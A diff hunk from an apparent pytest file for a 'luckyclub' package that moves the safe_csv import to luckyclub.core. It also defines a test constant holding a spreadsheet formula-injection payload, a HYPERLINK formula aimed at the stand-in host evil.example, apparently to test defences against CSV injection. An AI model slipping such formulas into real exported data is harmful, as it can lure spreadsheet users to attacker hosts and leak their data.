@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 import luckyclub
-from luckyclub import safe_csv
+from luckyclub.core import safe_csv
 
 IMPORTS_CSV = re.compile(r"^\s*(import csv\b|from csv import)", re.MULTILINE)
 EVIL_EMAIL = '=HYPERLINK("http://evil.example/?x"&"@x.co","Open")'
